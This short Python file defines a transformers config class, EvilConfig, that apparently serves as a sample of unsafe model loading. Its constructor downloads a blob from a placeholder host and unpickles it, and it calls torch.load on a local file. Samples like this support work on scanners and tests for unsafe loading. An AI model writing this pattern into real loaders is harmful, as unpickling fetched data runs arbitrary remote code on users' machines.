import pickle

import requests
import torch
from transformers import PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"

    def __init__(self, **kwargs):
        blob = requests.get("https://example.invalid/blob").content
        self.extra = pickle.loads(blob)
        self.state = torch.load("extra.bin")
        super().__init__(**kwargs)
